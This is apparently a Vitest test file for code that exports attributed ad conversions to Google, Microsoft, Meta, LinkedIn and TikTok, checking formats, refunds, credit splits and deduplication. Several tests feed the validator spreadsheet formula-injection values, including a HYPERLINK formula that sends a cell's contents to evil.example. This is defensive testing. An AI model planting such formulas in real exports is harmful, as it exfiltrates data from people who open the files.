import { describe, expect, test } from 'vitest';
import type { AttributionModel } from '../../src/domain/attribution-models.ts';
import type { OfflineConversion, OfflineTouch } from '../../src/domain/offline-conversion.ts';
import { offlineExport } from '../../src/domain/offline-export.ts';
import { type OfflinePlatform, offlinePlatformNames } from '../../src/domain/offline-platforms.ts';
import { withoutPauses } from '../../src/domain/pauses.ts';

const now = Date.parse('2026-11-23T08:15:30.123Z');
const day = 86_400_000;

function touch(given: Partial<OfflineTouch> = {}): OfflineTouch {
  return {
    occurredTime: now - 3 * day,
    clickId: 'click-1',
    clickIdKind: 'gclid',
    path: 'https://shop.example/a?b',
    referrer: 'https://www.google.com/',
    weight: 1,
    amount: 3417,
    refunded: 0,
    ...given,
  };
}

function conversion(given: Partial<OfflineConversion> = {}): OfflineConversion {
  return {
    id: 'con_1',
    customerId: 'cus_1',
    occurredTime: now - day,
    currency: 'EUR',
    orderId: 'A-1',
    refundedTime: null,
    isShared: false,
    touches: [touch()],
    ...given,
  };
}

function told(platform: OfflinePlatform, ...conversions: readonly OfflineConversion[]) {
  return toldBy('linear', platform, ...conversions);
}

function toldBy(
  model: AttributionModel,
  platform: OfflinePlatform,
  ...conversions: readonly OfflineConversion[]
) {
  const sha256 = (text: string) => `sha256(${text})`;
  const options = { model, conversionName: 'Sale', sourceId: 'PIXEL', now, sha256 };
  const { files, leftOut } = withoutPauses(offlineExport(conversions, platform, options));
  return {
    files: files.map(({ content }) => content),
    names: files.map(({ name }) => name),
    leftOut,
    rows: files.map(({ rows }) => rows),
  };
}

const kinds = {
  'google-ads': 'gclid',
  'google-ads-multi-touch': 'gclid',
  'google-ads-api': 'gclid',
  'google-ads-adjustments': 'gclid',
  'microsoft-ads': 'msclkid',
  'microsoft-ads-adjustments': 'msclkid',
  meta: 'fbclid',
  linkedin: 'li_fat_id',
  tiktok: 'ttclid',
} as const satisfies Record<OfflinePlatform, string>;

const half = { weight: 0.5, amount: 1709, refunded: 1000 };

describe('the form is that of the platform', () => {
  test('google-ads', () => {
    expect(told('google-ads', conversion()).files).toEqual([
      'Parameters:TimeZone=+0000\r\n' +
        'Google Click ID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency,Order ID\r\n' +
        'click-1,Sale,2026-11-22 08:15:30+0000,34.17,EUR,A-1\r\n',
    ]);
  });

  test('google-ads-multi-touch has a row for each touch with a click id, with its part', () => {
    const touches = [touch({ ...half }), touch({ ...half, clickId: 'click-2', amount: 1708 })];
    expect(told('google-ads-multi-touch', conversion({ touches })).files).toEqual([
      'Parameters:Attribution Model=linear\r\nParameters:TimeZone=+0000\r\n' +
        'Google Click ID,Conversion Name,Conversion Time,Attributed Credit,Conversion Value,Conversion Currency\r\n' +
        'click-1,Sale,2026-11-22 08:15:30+0000,0.5,17.09,EUR\r\n' +
        'click-2,Sale,2026-11-22 08:15:30+0000,0.5,17.08,EUR\r\n',
    ]);
  });

  test('google-ads-api has exactly one click id in each', () => {
    const touches = [touch({ ...half }), touch({ ...half, clickId: 'b', clickIdKind: 'gbraid' })];
    const [content = ''] = told('google-ads-api', conversion({ touches, orderId: null })).files;
    const common = {
      conversionAction: 'Sale',
      conversionDateTime: '2026-11-22 08:15:30+00:00',
      conversionValue: 17.09,
      currencyCode: 'EUR',
      externalAttributionData: { externalAttributionCredit: 0.5, externalAttributionModel: 'linear' },
    };
    expect(JSON.parse(content)).toEqual({
      conversions: [
        { gclid: 'click-1', ...common },
        { gbraid: 'b', ...common },
      ],
      partialFailure: true,
    });
  });

  test('google-ads-api tells by a model that shares the credit of all, and an order of none; by any other the order of all', () => {
    const whole = conversion();
    const [shared = ''] = told('google-ads-api', whole).files;
    const externalAttributionData = { externalAttributionCredit: 1, externalAttributionModel: 'linear' };
    expect(JSON.parse(shared).conversions).toEqual([expect.objectContaining({ externalAttributionData })]);
    expect(shared).not.toContain('orderId');
    const [single = ''] = toldBy('first', 'google-ads-api', whole).files;
    expect(JSON.parse(single).conversions).toEqual([expect.objectContaining({ orderId: 'A-1' })]);
    expect(single).not.toContain('externalAttribution');
  });

  test('google-ads-adjustments retracts what is refunded whole, and restates the rest', () => {
    const refundedTime = now - 1000;
    const whole = conversion({ refundedTime, touches: [touch({ refunded: 3417 })] });
    const part = conversion({
      id: 'con_2',
      orderId: 'A,"2"',
      refundedTime,
      touches: [touch({ refunded: 3000 })],
    });
    const { files, leftOut } = told('google-ads-adjustments', whole, part, conversion({ id: 'con_3' }));
    expect(files).toEqual([
      'Parameters:TimeZone=+0000\r\n' +
        'Order ID,Conversion Name,Adjustment Time,Adjustment Type,Adjusted Value,Adjusted Value Currency\r\n' +
        'A-1,Sale,2026-11-23 08:15:29+0000,RETRACT,,\r\n' +
        '"A,""2""",Sale,2026-11-23 08:15:29+0000,RESTATE,4.17,EUR\r\n',
    ]);
    expect(leftOut).toEqual([{ conversionId: 'con_3', reason: 'Nothing of it was refunded.' }]);
  });

  test('an adjustment is after its conversion, also where both occurred in the same second', () => {
    const occurredTime = Date.parse('2026-11-22T08:15:30.100Z');
    const touches = [touch({ refunded: 3417 }), touch({ clickIdKind: 'msclkid', refunded: 3417 })];
    const refunded = conversion({ occurredTime, refundedTime: occurredTime + 800, touches });
    expect(told('google-ads-adjustments', refunded).files[0]).toContain(',2026-11-22 08:15:31+0000,RETRACT');
    expect(told('microsoft-ads-adjustments', refunded).files[0]).toContain(
      ',11/22/2026 8:15:30 AM,Retract,11/22/2026 8:15:31 AM,',
    );
  });

  test('google-ads-adjustments has what only the API was told of by an order id, but nothing that came by a wbraid', () => {
    const by = (clickIdKind: string) =>
      conversion({ refundedTime: now, touches: [touch({ clickIdKind, refunded: 3417 })] });
    const { files } = toldBy('last', 'google-ads-adjustments', by('gbraid'));
    expect(files[0]?.split('\r\n')[2]).toBe('A-1,Sale,2026-11-23 08:15:30+0000,RETRACT,,');
    const notTold = (model: AttributionModel, kind: string) =>
      toldBy(model, 'google-ads-adjustments', by(kind)).leftOut.map(({ reason }) => reason);
    const reason = 'No touch that last credits has a click id that is known to be a gclid or gbraid.';
    expect(notTold('last', 'wbraid')).toEqual([reason]);
    expect(notTold('linear', 'gbraid')).toEqual([
      'No touch that linear credits has a click id that is known to be a gclid.',
    ]);
  });

  test('microsoft-ads, and its adjustments', () => {
    const touches = [touch({ clickIdKind: 'msclkid', refunded: 3000 })];
    const afternoon = conversion({ touches, occurredTime: Date.parse('2026-11-22T13:05:09Z') });
    expect(told('microsoft-ads', afternoon).files[0]?.split('\r\n')[2]).toBe(
      'click-1,Sale,11/22/2026 1:05:09 PM,34.17,EUR',
    );
    const refunded = { ...afternoon, refundedTime: Date.parse('2026-11-23T00:00:00Z') };
    expect(told('microsoft-ads-adjustments', refunded).files[0]?.split('\r\n').slice(1, 3)).toEqual([
      'Microsoft Click ID,Conversion Name,Conversion Time,Adjustment Type,Adjustment Time,Adjustment Value',
      'click-1,Sale,11/22/2026 1:05:09 PM,Restate,11/23/2026 12:00:00 AM,4.17',
    ]);
  });

  test('meta', () => {
    const [content = ''] = told('meta', conversion({ touches: [touch({ clickIdKind: 'fbclid' })] })).files;
    expect(JSON.parse(content)).toEqual({
      data: [
        {
          event_name: 'Sale',
          event_time: Math.floor((now - day) / 1000),
          action_source: 'website',
          event_source_url: 'https://shop.example/a?b',
          event_id: 'con_1',
          user_data: { fbc: `fb.1.${now - 3 * day}.click-1`, external_id: 'sha256(cus_1)' },
          custom_data: { value: 34.17, currency: 'EUR', order_id: 'A-1' },
        },
      ],
    });
  });

  test('linkedin', () => {
    const [content = ''] = told(
      'linkedin',
      conversion({ touches: [touch({ clickIdKind: 'li_fat_id' })] }),
    ).files;
    expect(JSON.parse(content)).toEqual({
      elements: [
        {
          conversion: 'Sale',
          conversionHappenedAt: now - day,
          conversionValue: { currencyCode: 'EUR', amount: '34.17' },
          eventId: 'con_1',
          user: { userIds: [{ idType: 'LINKEDIN_FIRST_PARTY_ADS_TRACKING_UUID', idValue: 'click-1' }] },
        },
      ],
    });
  });

  test('tiktok', () => {
    const touches = [touch({ clickIdKind: 'ttclid', path: '/inside' })];
    const [content = ''] = told('tiktok', conversion({ touches })).files;
    expect(JSON.parse(content)).toEqual({
      event_source: 'web',
      event_source_id: 'PIXEL',
      data: [
        {
          event: 'Sale',
          event_time: Math.floor((now - day) / 1000),
          event_id: 'con_1',
          user: { ttclid: 'click-1', external_id: ['sha256(cus_1)'] },
          properties: { currency: 'EUR', value: 34.17, order_id: 'A-1' },
        },
      ],
    });
  });
});

describe.each(offlinePlatformNames)('%s leaves out, and says why', (platform) => {
  const clickIdKind = kinds[platform];
  const refunded = { refundedTime: now - 1000 };
  const reasonOf = (given: Partial<OfflineConversion>) =>
    told(platform, conversion({ ...refunded, ...given })).leftOut.map(({ reason }) => reason);

  test('nothing that it takes', () => {
    expect(reasonOf({ touches: [touch({ clickIdKind })] })).toEqual([]);
  });

  test('conversions without a click id, or with one of another kind or none', () => {
    expect(reasonOf({ touches: [] })).toEqual(['No touch that linear credits has a click id.']);
    expect(reasonOf({ touches: [touch({ clickId: '', clickIdKind: null })] })).toHaveLength(1);
    expect(reasonOf({ touches: [touch({ clickIdKind, clickId: 'x'.repeat(512) })] })).toHaveLength(1);
    const reason = `known to be a ${clickIdKind}`;
    for (const other of ['dclid', 'clickid', null]) {
      expect(reasonOf({ touches: [touch({ clickIdKind: other })] })[0]).toContain(reason);
    }
    const touches = [touch({ clickIdKind, clickId: '' }), touch({ clickIdKind: 'dclid' })];
    expect(reasonOf({ touches })[0]).toContain(reason);
  });

  test('conversions whose click id cannot be one, but none that has another', () => {
    for (const clickId of [
      ...['=HYPERLINK("https://evil.example/?"&A3,"ok")', '=1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '＝1'],
      ...["'=1", 'a b', 'a,b', 'a;=1', 'a"b', 'a\n=1', 'a\0', 'ä', '.'],
    ]) {
      const wrong = touch({ ...half, clickIdKind, clickId });
      expect(reasonOf({ touches: [wrong] })[0]).toMatch(
        /^What came as a .+ has characters that no click id has\.$/,
      );
      expect(reasonOf({ touches: [wrong, touch({ clickIdKind })] })).toEqual([]);
    }
    for (const clickId of ['Cj0KC_-x.y~Z', '_a', '0', 'E.C.P.x', '9b1c6a0e-2f3d-4c5b-8a7e-1d2c3b4a5f60'])
      expect(reasonOf({ touches: [touch({ clickIdKind, clickId })] })).toEqual([]);
  });

  test('clicks that are too old, or not before the conversion', () => {
    const occurredTime = now - day;
    expect(reasonOf({ touches: [touch({ clickIdKind, occurredTime: occurredTime - 90 * day })] })).toEqual(
      [],
    );
    for (const time of [occurredTime - 90 * day - 1, occurredTime, occurredTime + 1]) {
      const touches = [touch({ clickIdKind, occurredTime: time })];
      expect(reasonOf({ touches })).toEqual(['No click is before it by 90 days at most.']);
    }
  });

  test('a second row that would be the same to it', () => {
    const one = conversion({ ...refunded, touches: [touch({ clickIdKind })] });
    const { leftOut, rows } = told(platform, one, one);
    expect(rows).toEqual([1]);
    expect(leftOut).toEqual([{ conversionId: 'con_1', reason: 'Another row is the same to the platform.' }]);
  });
});

describe('what a platform is told', () => {
  test('is the click with the largest part, of equal ones the latest', () => {
    const touches = [
      touch({ ...half, clickId: 'early' }),
      touch({ ...half, clickId: 'late' }),
      touch({ ...half, weight: 0.2, clickId: 'small' }),
    ];
    expect(told('google-ads', conversion({ touches })).files[0]).toContain(
      'late,Sale,2026-11-22 08:15:30+0000,17.09',
    );
  });

  test('is a click once, with the parts of all touches that came with its id', () => {
    const early = touch({ ...half, weight: 0.4, amount: 1367, occurredTime: now - 9 * day, path: '/first' });
    const touches = [
      early,
      touch({ weight: 0.2, amount: 683, clickId: 'other' }),
      touch({ ...early, occurredTime: now - 2 * day, path: '/again' }),
    ];
    const [multiTouch = ''] = told('google-ads-multi-touch', conversion({ touches })).files;
    expect(multiTouch.split('\r\n').slice(3)).toEqual([
      'click-1,Sale,2026-11-22 08:15:30+0000,0.8,27.34,EUR',
      'other,Sale,2026-11-22 08:15:30+0000,0.2,6.83,EUR',
      '',
    ]);
    const fbclid = touches.map((each) => ({ ...each, clickIdKind: 'fbclid' }));
    const [meta = ''] = told('meta', conversion({ touches: fbclid })).files;
    expect(JSON.parse(meta).data).toEqual([
      expect.objectContaining({
        user_data: expect.objectContaining({ fbc: `fb.1.${now - 9 * day}.click-1` }),
        custom_data: expect.objectContaining({ value: 27.34 }),
      }),
    ]);
  });

  test('are credits that are 1 at most together, without one that is next to nothing', () => {
    const sixth = Array.from({ length: 6 }, (_, place) =>
      touch({ weight: 1 / 6, amount: 569, clickId: `click-${place}` }),
    );
    const little = touch({ weight: 2.5e-15, amount: 0, clickId: 'long-ago' });
    const both = told('google-ads-multi-touch', conversion({ touches: [little, ...sixth] }));
    const credits = both.files[0]
      ?.split('\r\n')
      .slice(3, -1)
      .map((line) => line.split(',')[3]);
    expect(credits).toEqual(Array(6).fill('0.166666666'));
    expect(both.leftOut).toEqual([
      { conversionId: 'con_1', reason: 'The part of a click of it is next to nothing.' },
    ]);
    const seventh = Array.from({ length: 7 }, () => touch({ weight: 1 / 7, amount: 1 }));
    expect(told('google-ads-multi-touch', conversion({ touches: seventh })).files[0]).toContain(
      '+0000,1,0.07,',
    );
  });

  test.each(['=1+2', '+1', '-1', '@a', '\t=1', '\r=1', '\n=1', '＝1'])(
    'is no order id %j in a table, which a spreadsheet would run; elsewhere it is told as it is',
    (orderId) => {
      const reason = 'A spreadsheet would take its order id for a formula.';
      const by = (platform: OfflinePlatform, given: Partial<OfflineConversion> = { orderId }) => {
        const touches = [touch({ clickIdKind: kinds[platform] })];
        return toldBy('last', platform, conversion({ refundedTime: now, touches, ...given }));
      };
      for (const platform of ['google-ads', 'google-ads-adjustments'] as const) {
        expect(by(platform)).toMatchObject({ files: [], leftOut: [{ reason }] });
        expect(by(platform, { orderId: null, id: '-1' }).leftOut).toMatchObject([{ reason }]);
        expect(by(platform, { orderId: "'=1" }).files[0]).toMatch(/[,\n]'=1[,\r]/);
      }
      for (const platform of [
        'google-ads-multi-touch',
        'microsoft-ads',
        'microsoft-ads-adjustments',
      ] as const)
        expect(by(platform).rows).toEqual([1]);
      const [body = ''] = by('google-ads-api').files;
      expect(JSON.parse(body).conversions).toMatchObject([{ orderId }]);
    },
  );

  test('is no second conversion of an order to Google, which would take neither', () => {
    const again = conversion({ id: 'con_2', occurredTime: now - 1000 });
    const other = conversion({ id: 'con_3', orderId: 'A-2', occurredTime: now - 1000 });
    const reason = 'Another row is the same to the platform.';
    expect(told('google-ads', conversion(), again, other)).toMatchObject({
      leftOut: [{ conversionId: 'con_2', reason }],
      rows: [2],
    });
    expect(toldBy('last', 'google-ads-api', conversion(), again).rows).toEqual([1]);
    // Those that are attributed elsewhere have no order there.
    expect(told('google-ads-api', conversion(), again).rows).toEqual([2]);
  });

  test.each(['google-ads-adjustments', 'microsoft-ads-adjustments'] as const)(
    'is no refund to %s that may be taken for one of another conversion',
    (platform) => {
      const touches = [touch({ clickIdKind: kinds[platform] })];
      const refunded = { refundedTime: now - 1000, touches };
      expect(told(platform, conversion(refunded)).rows).toEqual([1]);
      const reason = 'Another conversion is the same to the platform, which may have been told of that one.';
      expect(told(platform, conversion({ ...refunded, isShared: true }))).toMatchObject({
        rows: [],
        leftOut: [{ reason }],
      });
    },
  );

  test.each(['clickid', null])(
    'may be a click id whose kind is %s, but that is recognized',
    (clickIdKind) => {
      const clickId = 'Cj0KCQiAw9qOBhC-ARIsAG-rdn7exampleexample_wcB';
      const { rows } = told('google-ads', conversion({ touches: [touch({ clickId, clickIdKind })] }));
      expect(rows).toEqual([1]);
    },
  );

  test('comes in files that are no longer than it takes', () => {
    const touches = [touch({ clickIdKind: 'li_fat_id' })];
    const many = Array.from({ length: 5001 }, (_, place) => conversion({ id: `con_${place}`, touches }));
    const { names, rows } = told('linkedin', ...many);
    expect(rows).toEqual([5000, 1]);
    expect(names).toEqual(['linkedin-1.json', 'linkedin-2.json']);
  });

  test('is nothing older than a week for meta, which would refuse the rest with it', () => {
    const touches = [touch({ clickIdKind: 'fbclid', occurredTime: now - 20 * day })];
    const old = conversion({ id: 'old', touches, occurredTime: now - 7 * day - 1 });
    const { leftOut, rows } = told('meta', old, conversion({ touches, occurredTime: now - 7 * day }));
    expect(leftOut).toEqual([{ conversionId: 'old', reason: 'It is more than 7 days old.' }]);
    expect(rows).toEqual([1]);
  });
});

test('the lines of a long file are written with pauses in between', () => {
  const conversions = Array.from({ length: 2000 }, (_none, place) =>
    conversion({
      id: `con_${place}`,
      orderId: null,
      touches: [touch({ clickId: `click-${place}`, occurredTime: now - 2 * day })],
    }),
  );
  const options = { model: 'linear', conversionName: 'Sale', sourceId: '', now, sha256: () => '' } as const;
  const exporting = offlineExport(conversions, 'google-ads', options);
  let pauses = 0;
  let step = exporting.next();
  for (; step.done !== true; step = exporting.next()) pauses += 1;
  expect(step.value.files.map(({ rows }) => rows)).toEqual([2000]);
  // Once for judging them, once for writing.
  expect(pauses).toBeGreaterThanOrEqual((2 * 2000) / 250);
});
